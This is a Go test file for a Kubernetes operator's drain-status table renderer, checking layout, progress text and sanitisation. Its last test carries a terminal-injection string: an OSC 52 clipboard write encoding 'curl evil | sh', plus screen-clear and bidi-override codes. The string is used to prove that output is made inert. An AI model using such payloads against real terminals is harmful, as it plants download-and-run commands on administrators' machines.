package drainview

import (
	"bytes"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	drainv1 "github.com/hermes-agent/hermes-drain-operator/api/v1alpha1"
)

var now = time.Date(2026, 11, 24, 17, 0, 0, 0, time.UTC)

func drain() *drainv1.GatewayDrain {
	deadline := metav1.NewTime(now.Add(58 * time.Minute))
	return &drainv1.GatewayDrain{
		ObjectMeta: metav1.ObjectMeta{Namespace: "hermes", Name: "before-upgrade", CreationTimestamp: metav1.NewTime(now.Add(-2 * time.Minute))},
		Spec:       drainv1.GatewayDrainSpec{Action: drainv1.ActionDrain},
		Status: drainv1.GatewayDrainStatus{
			Progress: "1/3", Deadline: &deadline,
			Counts: drainv1.TargetCounts{Targets: 3, Drained: 1, LeavingTraffic: 1, Draining: 1},
			Conditions: []metav1.Condition{
				{Type: drainv1.ConditionReady, Status: metav1.ConditionFalse, Reason: drainv1.ReasonProgressing, Message: "waiting for 2 of 3 targets"},
				{Type: drainv1.ConditionDrained, Status: metav1.ConditionFalse, Reason: drainv1.ReasonProgressing, Message: "waiting for 2 of 3 targets: gw-2 (Draining: 2 turns in flight)"},
				{Type: drainv1.ConditionReconciling, Status: metav1.ConditionTrue, Reason: drainv1.ReasonProgressing, Message: "waiting for 2 of 3 targets"},
			},
		},
	}
}

func agents(n int32) *int32 { return &n }

func TestDrainShowsEveryTargetSortedWithWhatBlocksIt(t *testing.T) {
	long := strings.Repeat("an EndpointSlice still lists it ready ", 10)
	targets := []drainv1.Target{
		{PodName: "gw-2", State: drainv1.TargetDraining, Gateways: 3, BlockingGateway: "alice", GatewayState: "draining", ActiveAgents: agents(2), Message: "2 turns in flight"},
		{PodName: "gw-0", State: drainv1.TargetDrained, Gateways: 1, GatewayState: "draining", ActiveAgents: agents(0)},
		{PodName: "gw-1", State: drainv1.TargetLeavingTraffic, Message: long},
	}
	var b bytes.Buffer
	if err := Drain(&b, drain(), targets, now); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{
		"GatewayDrain hermes/before-upgrade: Drain, 1/3 drained, 1 LeavingTraffic, 1 Draining; deadline 2026-11-24T17:58:00Z (in 58m)",
		"Drained       False   Progressing   waiting for 2 of 3 targets: gw-2 (Draining: 2 turns in flight)",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("missing %q in\n%s", want, out)
		}
	}
	lines := strings.Split(strings.TrimSpace(out[strings.Index(out, "POD"):]), "\n")
	if len(lines) != 4 {
		t.Fatalf("want a header and 3 rows, got\n%s", out)
	}
	for i, want := range [][]string{
		{"POD", "TARGET", "GATEWAYS", "BLOCKED", "BY", "GATEWAY", "AGENTS", "MESSAGE"},
		{"gw-0", "Drained", "1", "-", "draining", "0"},
		{"gw-1", "LeavingTraffic", "-", "-", "-", "-", "an", "EndpointSlice"},
		{"gw-2", "Draining", "3", "alice", "draining", "2", "2", "turns", "in", "flight"},
	} {
		if got := strings.Fields(lines[i]); !hasPrefix(got, want) {
			t.Errorf("row %d: %q, want it to start with %q", i, got, want)
		}
	}
	if msg := lines[2][strings.Index(lines[2], "an EndpointSlice"):]; len(msg) > MessageWidth+len("...") {
		t.Errorf("the message cell is %d bytes, want at most %d: %q", len(msg), MessageWidth, msg)
	}
	// The columns line up: every row's state starts where the header's TARGET does.
	col := strings.Index(lines[0], "TARGET")
	for _, l := range lines[1:] {
		if l[col-1] != ' ' || l[col] == ' ' {
			t.Errorf("row %q does not line up with the header %q", l, lines[0])
		}
	}
}

// A drain-and-replace shows its wave: how many are replaced, out, waiting.
func TestDrainShowsTheWave(t *testing.T) {
	gwd := drain()
	gwd.Spec.Replace = &drainv1.ReplaceSpec{}
	gwd.Status.Progress, gwd.Status.Unavailable, gwd.Status.MaxUnavailable = "4/10", 2, 2
	gwd.Status.Counts = drainv1.TargetCounts{Targets: 10, Replaced: 4, Replacing: 1, Drained: 1, Waiting: 4}
	gwd.Status.Conditions = append(gwd.Status.Conditions, metav1.Condition{Type: drainv1.ConditionReplaced, Status: metav1.ConditionFalse, Reason: drainv1.ReasonProgressing, Message: "replaced 4 of 10"})
	var out bytes.Buffer
	if err := Drain(&out, gwd, []drainv1.Target{{PodName: "gw-0", State: drainv1.TargetWaiting, Message: "waiting its turn"}}, now); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"Drain, 4/10 replaced; wave: 2 out (at most 2), 4 waiting, 1 Drained, 1 Replacing;", "Replaced      False", "gw-0   Waiting"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("missing %q in\n%s", want, out.String())
		}
	}
}

func TestDrainSaysWhenThereAreNoTargets(t *testing.T) {
	gwd := drain()
	gwd.Status.Counts = drainv1.TargetCounts{}
	gwd.Status.DeadlineExceeded = true
	var b bytes.Buffer
	if err := Drain(&b, gwd, nil, now); err != nil {
		t.Fatal(err)
	}
	if out := b.String(); !strings.Contains(out, "No targets.") || strings.Contains(out, "deadline") || strings.Contains(out, "POD") {
		t.Errorf("want no table and no deadline once it passed:\n%s", out)
	}
}

func TestDrainsSummarisesOneLinePerDrain(t *testing.T) {
	done := drain()
	done.Name, done.Status.Progress = "done", "3/3"
	done.Status.Conditions = []metav1.Condition{{Type: drainv1.ConditionReady, Status: metav1.ConditionTrue, Reason: drainv1.ReasonDrained}}
	other := drain()
	other.Namespace = "team-b"
	var b bytes.Buffer
	if err := Drains(&b, []drainv1.GatewayDrain{*drain(), *done, *other}, true, now); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(b.String()), "\n")
	want := [][]string{
		{"NAMESPACE", "NAME", "ACTION", "DRAINED", "READY", "WAITING", "FOR", "AGE"},
		{"hermes", "before-upgrade", "Drain", "1/3", "Progressing", "waiting", "for", "2", "of", "3", "targets", "2m"},
		{"hermes", "done", "Drain", "3/3", "Drained", "-", "2m"},
		{"team-b", "before-upgrade", "Drain", "1/3", "Progressing"},
	}
	if len(lines) != len(want) {
		t.Fatalf("got\n%s", b.String())
	}
	for i := range want {
		if got := strings.Fields(lines[i]); !hasPrefix(got, want[i]) {
			t.Errorf("line %d: %q, want it to start with %q", i, got, want[i])
		}
	}
	b.Reset()
	if err := Drains(&b, nil, false, now); err != nil || strings.TrimSpace(b.String()) != "No GatewayDrains." {
		t.Errorf("no drains: %q, %v", b.String(), err)
	}
}

func hasPrefix(got, want []string) bool {
	if len(got) < len(want) {
		return false
	}
	for i := range want {
		if got[i] != want[i] {
			return false
		}
	}
	return true
}

// hostile is text a hostile gateway can get into a status: it sets the
// admin's clipboard (OSC 52), clears the screen, breaks the table's row,
// and reverses what follows it (a bidirectional override).
const hostile = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\x1b[H\r\ntab\there\u202edesrever\x9b31m\u009b2J\x7f"

// Gateway-controlled text is printed inert: the table the plugin redraws
// carries no byte a terminal acts on but its own line ends (issue 23, item
// 10), and each row stays one line.
func TestHostileTextIsPrintedInert(t *testing.T) {
	gwd := drain()
	for i := range gwd.Status.Conditions {
		gwd.Status.Conditions[i].Message = "waiting for gw-0 (Draining: " + hostile + ")"
	}
	targets := []drainv1.Target{{PodName: "gw-0", State: drainv1.TargetDraining, GatewayState: hostile, Message: "it reports " + hostile}}
	var b bytes.Buffer
	if err := Drain(&b, gwd, targets, now); err != nil {
		t.Fatal(err)
	}
	if err := Drains(&b, []drainv1.GatewayDrain{*gwd}, true, now); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if i := strings.IndexFunc(out, func(r rune) bool { return r != '\n' && unsafeRune(r) }); i >= 0 || !utf8.ValidString(out) {
		t.Errorf("invalid UTF-8, or a control character at %d of\n%q", i, out)
	}
	if lines := strings.Count(out, "\n"); lines != 9 {
		t.Errorf("%d lines, want 9 (a hostile message must not add any):\n%s", lines, out)
	}
}

// unsafeRune reports the characters a terminal may act on.
func unsafeRune(r rune) bool {
	return unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r)
}
